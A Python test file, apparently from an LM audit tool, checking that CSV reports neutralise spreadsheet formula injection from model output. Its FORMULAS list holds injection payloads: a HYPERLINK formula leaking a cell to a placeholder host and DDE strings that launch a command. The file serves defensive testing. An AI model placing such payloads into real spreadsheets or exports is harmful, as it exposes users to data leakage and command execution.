"""A CSV is opened in a spreadsheet, and what a model said must not be run there."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from lm_audit.report import write_reports
from lm_audit.report.allure.attachments import _csv
from lm_audit.shared.spreadsheet import as_text
from tests.report.made_runs import MadeCase, share, write_run

FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\uff1d1+1", "=",
)  # fmt: skip
HARMLESS = ("-0.5", "+3", "-1e-7", "-50%", "a = b", "2 - 1", "", "'=1'", "mail@host", "−1")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert as_text(text) == f"'{text}"
    assert as_text(as_text(text)) == as_text(text)


@pytest.mark.parametrize("value", [*HARMLESS, -0.25, None, True, 3])
def test_numbers_and_other_text_stay(value: object) -> None:
    assert as_text(value) == value


def test_no_csv_of_a_run_holds_a_formula_and_parquet_holds_it_as_it_is(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    rows = [{"item": text, text: text} for text in FORMULAS]
    case = MadeCase("=x.py::test_x[@m@cpu-a]", "bias", "@m", metrics={"=bias.gap": share(0.5, 9)}, rows=rows)
    run = write_run(tmp_path / "run", [case])
    write_reports(run)
    for name in ("metrics.csv", "items.csv"):
        found = cells((run / name).read_text(encoding="utf-8"))
        assert [cell for cell in found if cell[:1] in "=+-@\t\uff1d" and cell] == []
        assert "'=x.py::test_x[@m@cpu-a]" in found
    assert pq.read_table(run / "items.parquet").column("item").to_pylist() == list(FORMULAS)


def test_the_metrics_of_an_allure_report_hold_no_formula() -> None:
    text = _csv({"=bias.gap": {"value": -0.5, "method": "=1+1"}}).decode()
    assert "'=bias.gap" in cells(text) and "'=1+1" in cells(text) and "-0.5" in cells(text)
